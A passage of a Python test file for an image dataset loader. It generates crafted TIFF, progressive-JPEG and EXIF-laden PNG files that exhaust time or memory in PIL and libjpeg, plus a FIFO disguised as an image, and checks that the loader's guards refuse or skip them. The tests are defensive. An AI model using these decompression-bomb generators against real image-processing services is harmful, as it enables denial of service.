        (256, 3, 1, 1),
        (257, 3, 1, 1),
        (258, 3, 1, 8),
        (259, 3, 1, 1),
        (262, 3, 1, 1),
        (273, 4, 1, 8),
        (278, 3, 1, 1),
        (279, 4, 1, 1),
    ]  # width, height, 8 bits, raw, grey, strip
    out = bytearray(b"II*\x00" + struct.pack("<L", 10) + b"\x80\x00")  # first IFD at 10, the pixel at 8
    for page in range(pages):
        out += struct.pack("<H", len(entries))
        for tag, kind, count, value in entries:
            out += struct.pack("<HHL", tag, kind, count) + struct.pack(
                "<HH" if kind == 3 else "<L", *((value, 0) if kind == 3 else (value,))
            )
        out += struct.pack("<L", len(out) + 4 if page < pages - 1 else 0)
    return bytes(out)


def many_scan_jpeg(size: int, extra_scans: int) -> bytes:
    """A progressive JPEG whose last scan (with its Huffman table) is repeated: libjpeg decodes it, one
    pass over the whole picture per scan. A flat picture keeps each scan a few bytes."""
    buffer = io.BytesIO()
    Image.new("RGB", (size, size), (120, 80, 40)).save(buffer, "JPEG", progressive=True)
    data = buffer.getvalue()
    last_scan = data.rfind(b"\xff\xda")
    start = data.rfind(b"\xff\xc4", 0, last_scan)
    return data[:-2] + data[start:-2] * extra_scans + b"\xff\xd9"


def test_tiff_of_thousands_of_pages_is_skipped_and_named_unwalked(tmp_path):
    """PIL's n_frames reads every page, in time growing with their square (65,536 pages took 21 s);
    only the first page is used, and the chain is counted from the header up to the limit."""
    root = make_class_folders(tmp_path / "data")
    bomb = root / "cats" / "pages.tif"
    bomb.write_bytes(many_page_tiff(1000))
    with Image.open(bomb) as image:  # a TIFF PIL reads, page after page
        assert image.n_frames == 1000
    before = tree_digest(root)
    started = time.perf_counter()
    reason = check_image(bomb)
    with pytest.raises(ImageTooLarge, match="more than 64 pages"):  # callers that catch bombs name it
        load_rgb(bomb)
    assert time.perf_counter() - started < 10  # unguarded: 20 s and more
    scan = scan_dataset(root)
    assert reason == dict(scan.skipped)["cats/pages.tif"] and "a TIFF of more than 64 pages" in reason
    assert tree_digest(root) == before
    few = tmp_path / "few.tif"
    few.write_bytes(many_page_tiff(3))  # a few pages are fine: the first is the image
    assert check_image(few) is None and load_rgb(few).size == (1, 1)


def test_progressive_jpeg_of_thousands_of_scans_is_refused_before_libjpeg(tmp_path, monkeypatch):
    """libjpeg has no limit on scans and passes over the whole picture for each: 2,000 scans in a
    200 KB file took 70 s here. The scans are counted from the markers before anything is decoded."""
    path = tmp_path / "scans.jpg"
    path.write_bytes(many_scan_jpeg(512, 2000))
    started = time.perf_counter()
    reason = check_image(path)
    with pytest.raises(ImageTooLarge, match="more than 100 JPEG scans"):
        load_rgb(path, 64)
    assert time.perf_counter() - started < 10  # unguarded: 20 s and more
    assert reason.startswith("too costly to decode: more than 100 JPEG scans")
    # a large picture allows fewer scans, each of them a pass over all its pixels: 30 at the pixel limit
    monkeypatch.setattr(Image, "MAX_IMAGE_PIXELS", Image.MAX_IMAGE_PIXELS)
    monkeypatch.setenv("FINETUNE_MAX_PIXELS", str(1024 * 1024))
    large = tmp_path / "large.jpg"
    large.write_bytes(many_scan_jpeg(1024, 40))
    assert "more than 30 JPEG scans over 1.05 megapixels" in check_image(large)
    # it is a file libjpeg decodes (a small one, with the limit lifted), and a normal one passes
    small = tmp_path / "small.jpg"
    small.write_bytes(many_scan_jpeg(64, 200))
    monkeypatch.setattr(data_module, "MAX_JPEG_SCANS", 10_000)
    assert load_rgb(small).size == (64, 64)
    monkeypatch.undo()
    Image.new("RGB", (300, 200), (1, 2, 3)).save(tmp_path / "normal.jpg", progressive=True)
    assert check_image(tmp_path / "normal.jpg") is None and check_image(small) is not None


def test_exif_tags_sharing_one_block_are_refused_before_pil_reads_them(tmp_path):
    """PIL reads every tag's data when it parses EXIF: 4,000 tags pointing at one 150 KB block of a
    200 KB PNG took 600 MB (and a 1 MB file would take gigabytes). A PNG may hold its EXIF after its
    pixels; a TIFF's own tags are checked the same way, before PIL opens it."""
    count, block = 4000, 150_000
    entries = b"".join(struct.pack("<HHLL", 1000 + i, 7, block, 14 + count * 12) for i in range(count))
    exif = b"II*\x00" + struct.pack("<LH", 8, count) + entries + b"\0\0\0\0" + bytes(block)
    buffer = io.BytesIO()
    Image.new("RGB", (8, 8)).save(buffer, "PNG")
    png = buffer.getvalue()
    end = png.rfind(b"IEND") - 4
    chunk = struct.pack(">L", len(exif)) + b"eXIf" + exif + struct.pack(">L", zlib.crc32(b"eXIf" + exif))
    (tmp_path / "late.png").write_bytes(png[:end] + chunk + png[end:])
    (tmp_path / "tags.tif").write_bytes(exif)
    for name in ("late.png", "tags.tif"):
        started = time.perf_counter()
        reason = check_image(tmp_path / name)
        assert time.perf_counter() - started < 10  # unguarded: 20 s and more
        assert reason.startswith("too costly to decode: its") and "tags claim 600 MB of data from 198 KB" in reason
    rotated = Image.Exif()
    rotated[0x0112] = 6  # an ordinary EXIF orientation still turns the picture
    Image.new("RGB", (30, 20)).save(tmp_path / "turned.png", exif=rotated.tobytes())
    assert check_image(tmp_path / "turned.png") is None and load_rgb(tmp_path / "turned.png").size == (20, 30)


@needs_fifo
def test_fifo_named_like_an_image_is_skipped_not_waited_on(tmp_path):
    """Opening a FIFO blocks until someone writes to it: a scan (or a prediction) used to wait for ever."""
    root = make_class_folders(tmp_path / "data")
    fifo = root / "cats" / "x.jpg"
    os.mkfifo(fifo)
    os.symlink(root / "dogs", root / "dogs" / "folder.png")  # a link to a folder, named like an image
    before = tree_digest(root)
    assert run_within(10, lambda: check_image(fifo), [fifo]) == "not a regular file (a named pipe)"
    with pytest.raises(FinetuneError, match="not a regular file"):
        run_within(10, lambda: load_rgb(fifo), [fifo])
    scan = run_within(30, lambda: scan_dataset(root), [fifo])
    assert dict(scan.skipped) == {
        "cats/x.jpg": "not a regular file (a named pipe)",
        "dogs/folder.png": "not a regular file (a folder)",
    }
    assert len(scan.train) + len(scan.val) == 12
    os.symlink(root / "cats" / "img_0.png", root / "cats" / "link.png")  # a link to an image is fine
    assert check_image(root / "cats" / "link.png") is None
    assert tree_digest(root) == {**before, "cats/link.png": before["cats/img_0.png"]}
